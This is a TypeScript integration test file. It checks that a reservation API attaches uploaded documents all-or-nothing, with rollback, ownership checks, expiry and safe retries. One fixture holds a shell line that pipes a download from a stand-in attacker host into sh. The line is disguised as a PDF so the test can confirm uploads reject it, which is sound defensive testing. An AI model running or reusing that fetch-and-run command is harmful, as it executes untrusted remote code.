/**
 * A submission with its documents is all or nothing: the files go first as pending uploads
 * (`POST /api/documentmanagement/document/addpending`, checked by content, owned by the uploader,
 * served to nobody), then `POST /api/reservation/request/add` with their `documentIds` stores the
 * request and attaches them in one transaction. Failures injected at each point leave no request
 * and no attached document, and the answer says which file and why.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ADMIN, AGENT, startTestApp, type TestApp } from '../helpers.js';
import { findRefs, requestBody, type Refs } from './fixture.js';

const REQUESTS = '/api/reservation/request';
const DOCUMENTS = '/api/documentmanagement/document';
let t: TestApp;
let admin: string;
let agent: string;
let refs: Refs;

type Doc = { id: number; fileName: string };
type Errors = { errors: Record<string, string[]> };

const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
  'latin1',
);
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
const attachment = (name: string, bytes: Buffer) => ({ attachmentName: name, base64String: bytes.toString('base64') });

const pending = (bearer: string, referenceId: string, attachments: unknown[], lang = 'en') =>
  t.call(bearer, {
    method: 'POST',
    url: `${DOCUMENTS}/addpending`,
    payload: { referenceId, attachments },
    headers: { 'accept-language': lang },
  });
const add = (bearer: string, payload: object, lang = 'en') =>
  t.call(bearer, { method: 'POST', url: `${REQUESTS}/add`, payload, headers: { 'accept-language': lang } });
const getById = (bearer: string, guid: string) =>
  t.call(bearer, { method: 'GET', url: `${REQUESTS}/getbyid?requestGuid=${guid}` });
const documentsOf = (bearer: string, guid: string) =>
  t.call(bearer, { method: 'POST', url: `${DOCUMENTS}/getbyid`, payload: { referenceId: guid } });
/** The documents stored under a guid, pending or attached: kinds in order. */
const storedKinds = async (guid: string) =>
  (
    await t.db.query<{ reference_kind: string }>(
      'SELECT reference_kind FROM documents WHERE reference_id = $1 AND deleted_at IS NULL ORDER BY id',
      [guid],
    )
  ).map((r) => r.reference_kind);
const auditCount = async (entity: string, entityId: string) =>
  (
    await t.db.query<{ n: number }>(
      'SELECT count(*)::int AS n FROM audit_entries WHERE entity = $1 AND entity_id = $2',
      [entity, entityId],
    )
  )[0].n;
const requestCount = async () =>
  (await t.db.query<{ n: number }>('SELECT count(*)::int AS n FROM reservation_requests'))[0].n;

/** Sends files as pending uploads for the body's guid; answers their ids. */
async function upload(bearer: string, guid: string, ...files: [string, Buffer][]) {
  const res = await pending(
    bearer,
    guid,
    files.map(([name, bytes]) => attachment(name, bytes)),
  );
  expect(res.statusCode, res.body).toBe(200);
  return res.json<Doc[]>().map((d) => d.id);
}

beforeAll(async () => {
  t = await startTestApp();
  [admin, agent] = await Promise.all([t.login(ADMIN), t.login(AGENT)]);
  refs = await findRefs(t.db);
});
afterAll(() => t?.close());

describe('a submission with documents', () => {
  it('stores the request with the files sent before it, each with its audit entry', async () => {
    const body = requestBody(refs);
    const guid = body.requestGuid;
    // Two calls (a selection above one call's size is split), then one add.
    const first = await upload(agent, guid, ['e-ticket.pdf', PDF]);
    const second = await upload(agent, guid, ['passport.png', PNG]);
    // Waiting files are nobody's to read yet: no request, no list, no download.
    expect((await documentsOf(agent, guid)).statusCode).toBe(404);
    expect(
      (await t.call(agent, { method: 'GET', url: `${DOCUMENTS}/download?documentId=${first[0]}` })).statusCode,
    ).toBe(404);

    const res = await add(agent, { ...body, documentIds: [...first, ...second] });
    expect(res.statusCode, res.body).toBe(200);
    const listed = await documentsOf(agent, guid);
    expect(listed.statusCode, listed.body).toBe(200);
    expect(listed.json<Doc[]>().map((d) => d.fileName)).toEqual(['e-ticket.pdf', 'passport.png']);
    expect(await storedKinds(guid)).toEqual(['reservation-request', 'reservation-request']);
    expect(await auditCount('reservation-request-document', String(first[0]))).toBe(1);
    expect(await auditCount('reservation-request', guid)).toBe(1);
  });

  it('stores nothing when a file fails its check, and names the file', async () => {
    const body = requestBody(refs);
    const guid = body.requestGuid;
    const before = await requestCount();
    const res = await pending(agent, guid, [attachment('ticket.pdf', PDF), attachment('boarding-pass.pdf', SCRIPT)]);
    expect(res.statusCode).toBe(400);
    expect(res.json<Errors>().errors['attachments[1].base64String'][0]).toContain('boarding-pass.pdf');
    // The page stops here: no add. Nothing of either file was kept, and no request.
    expect(await storedKinds(guid)).toEqual([]);
    expect(await requestCount()).toBe(before);
  });

  it('stores neither the request nor any document when one file cannot be attached, and says which', async () => {
    const body = requestBody(refs);
    const guid = body.requestGuid;
    const mine = await upload(agent, guid, ['e-ticket.pdf', PDF]);
    // Another user's upload for the same guid is not the agent's to attach.
    const theirs = await upload(admin, guid, ['voucher.pdf', PDF]);
    const before = await requestCount();

    const res = await add(agent, { ...body, documentIds: [...mine, ...theirs] }, 'fr');
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json<Errors>().errors).toEqual({
      'documentIds[1]': [expect.stringContaining("n'attend plus d'être joint")],
    });
    expect(await requestCount()).toBe(before);
    expect((await getById(agent, guid)).statusCode).toBe(404);
    expect(await auditCount('reservation-request', guid)).toBe(0);
    expect(await storedKinds(guid)).toEqual(['pending:reservation-request', 'pending:reservation-request']);

    // The retry with the agent's own file stores the request and that file, once.
    const retry = await add(agent, { ...body, documentIds: mine });
    expect(retry.statusCode, retry.body).toBe(200);
    expect((await documentsOf(agent, guid)).json<Doc[]>().map((d) => d.id)).toEqual(mine);
  });

  it('rolls back the request when the database fails while attaching the files', async () => {
    const body = requestBody(refs);
    const guid = body.requestGuid;
    const ids = await upload(agent, guid, ['e-ticket.pdf', PDF]);
    // A fault injected in the attaching write, after the request's rows and audit entry are written.
    await t.db.query(`CREATE FUNCTION fail_attach() RETURNS trigger LANGUAGE plpgsql AS $$
      BEGIN RAISE EXCEPTION 'injected failure'; END $$`);
    await t.db.query(`CREATE TRIGGER fail_attach BEFORE UPDATE ON documents FOR EACH ROW
      WHEN (NEW.reference_id = '${guid}') EXECUTE FUNCTION fail_attach()`);
    const before = await requestCount();
    try {
      const res = await add(agent, { ...body, documentIds: ids });
      expect(res.statusCode).toBe(500);
      expect(res.json<{ title?: string; detail?: string }>()).toMatchObject({
        detail: expect.stringMatching(/try again/i),
      });
    } finally {
      await t.db.query('DROP TRIGGER fail_attach ON documents');
      await t.db.query('DROP FUNCTION fail_attach()');
    }
    expect(await requestCount()).toBe(before);
    expect((await getById(agent, guid)).statusCode).toBe(404);
    expect(await auditCount('reservation-request', guid)).toBe(0);
    expect(await storedKinds(guid)).toEqual(['pending:reservation-request']);
  });

  it('forgets uploads older than a day: their ids no longer attach', async () => {
    const body = requestBody(refs);
    const guid = body.requestGuid;
    const old = await upload(agent, guid, ['e-ticket.pdf', PDF]);
    await t.db.query("UPDATE documents SET created_at = now() - interval '25 hours' WHERE id = $1", [old[0]]);
    await upload(agent, guid, ['passport.png', PNG]); // any pending upload sweeps the expired ones
    expect(await t.db.query('SELECT 1 FROM files WHERE owner = $1 AND owner_id = $2', ['document', old[0]])).toEqual(
      [],
    );
    const res = await add(agent, { ...body, documentIds: old });
    expect(res.statusCode).toBe(400);
    expect(res.json<Errors>().errors['documentIds[0]'][0]).toMatch(/no longer waiting/);
  });

  it('answers the stored request again for a retry of a stored guid, attaching nothing twice', async () => {
    const body = requestBody(refs);
    const guid = body.requestGuid;
    const ids = await upload(agent, guid, ['e-ticket.pdf', PDF]);
    expect((await add(agent, { ...body, documentIds: ids })).statusCode).toBe(200);
    // The answer was lost; the page sends the files and the request again.
    const again = await upload(agent, guid, ['e-ticket.pdf', PDF]);
    const res = await add(agent, { ...body, documentIds: again });
    expect(res.statusCode, res.body).toBe(200);
    expect((await documentsOf(agent, guid)).json<Doc[]>().map((d) => d.id)).toEqual(ids);
  });
});
